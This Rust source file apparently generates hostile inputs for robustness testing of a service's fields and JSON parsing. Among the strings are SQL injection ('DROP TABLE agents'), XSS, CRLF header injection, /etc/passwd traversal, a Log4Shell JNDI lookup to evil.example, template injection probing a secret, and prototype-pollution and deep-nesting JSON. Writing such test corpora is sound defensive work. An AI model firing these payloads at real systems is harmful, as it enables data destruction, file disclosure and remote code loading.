//! Texts, numbers and bytes that mean harm, for any field there is.

use std::fmt::Write as _;

/// Valid texts, as text.
pub fn texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "",
        " ",
        "'",
        "\"",
        "\\",
        "'; DROP TABLE agents; --",
        "' OR '1'='1",
        "%",
        "_",
        "%_\\%",
        "\u{1}\u{2}\u{1f}\u{7f}",
        "\r\n",
        "\r\nSet-Cookie: a=b",
        "\t",
        "\u{202e}gnp.exe",
        "\u{feff}",
        "\u{ffff}\u{fffe}",
        "\u{fffd}",
        "🦀👩‍👩‍👧‍👦",
        "e\u{301}",
        "Ａ",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "C:\\Windows\\System32",
        "{{ cron_secret }}",
        "${jndi:ldap://evil.example}",
        "null",
        "true",
        "1e400",
        "$.system",
        "{\"a\":1}",
        "\u{10ffff}",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("x".repeat(64 << 10));
    texts.push("\u{10348}".repeat(16 << 10));
    texts.push("\n".repeat(64 << 10));
    texts
}

/// What stands where a value should, as it is written in the document. Most of it is no text, some of it no JSON.
pub fn raw_values() -> Vec<Vec<u8>> {
    let mut raw: Vec<Vec<u8>> = [
        &br#""\ud800""#[..],
        br#""\udc00\ud800""#,
        br#""a\ud83d""#,
        br#""\u0000""#,
        br#""a\u0000b""#,
        b"\"\xff\xfe\"",
        b"\"\xed\xa0\x80\"",
        b"\"\xc0\x80\"",
        b"\"\xf4\x90\x80\x80\"",
        b"\"\x00\"",
        b"\"\x01\"",
        b"\"\n\"",
        br#""\x41""#,
        br#""\u12""#,
        b"\"unended",
        b"1e400",
        b"-1e400",
        b"1e-400",
        b"-0",
        b"-0.0",
        b"0.1e1",
        b"00",
        b"+1",
        b".5",
        b"0x10",
        b"NaN",
        b"Infinity",
        b"9007199254740993",
        b"18446744073709551615",
        b"18446744073709551616",
        b"-9223372036854775809",
        b"123456789012345678901234567890123456789012345678901234567890",
        b"1.7976931348623157e308",
        b"true",
        b"null",
        b"[]",
        b"{}",
        b"[[]]",
        b"{\"a\":{\"b\":[null]}}",
        b"{\"__proto__\":{\"admin\":true}}",
        b"",
        b",",
        b"}",
        b"/**/1",
    ]
    .map(<[u8]>::to_vec)
    .to_vec();
    raw.push([b"[".repeat(1000), b"]".repeat(1000)].concat());
    raw.push([b"{\"a\":".repeat(1000), b"1".to_vec(), b"}".repeat(1000)].concat());
    raw.push(b"[".repeat(100_000));
    raw.push(b"9".repeat(100_000));
    raw.push([b"1e".to_vec(), b"9".repeat(1000)].concat());
    raw.push([b"[".to_vec(), b"0,".repeat(100_000), b"0]".to_vec()].concat());
    raw
}

/// Percent-encoded, with bytes that are no text among them.
pub fn encoded() -> Vec<String> {
    let short = texts().into_iter().filter(|it| it.len() < 5000);
    let mut encoded: Vec<String> = short.map(|it| percent_encoded(&it)).collect();
    encoded.extend(
        [
            "%",
            "%%",
            "%zz",
            "%f",
            "%ff",
            "%C0%80",
            "%ED%A0%80",
            "%00",
            "+",
            "a%00b",
            "&",
            "=",
            "[]",
            "[a]=1",
            "%u0041",
            ";",
            "#",
        ]
        .map(str::to_owned),
    );
    encoded.push("%41".repeat(4000));
    encoded
}

/// Every byte of it, needed or not.
pub fn percent_encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut encoded, byte| {
        write!(encoded, "%{byte:02X}").expect("a string takes everything");
        encoded
    })
}
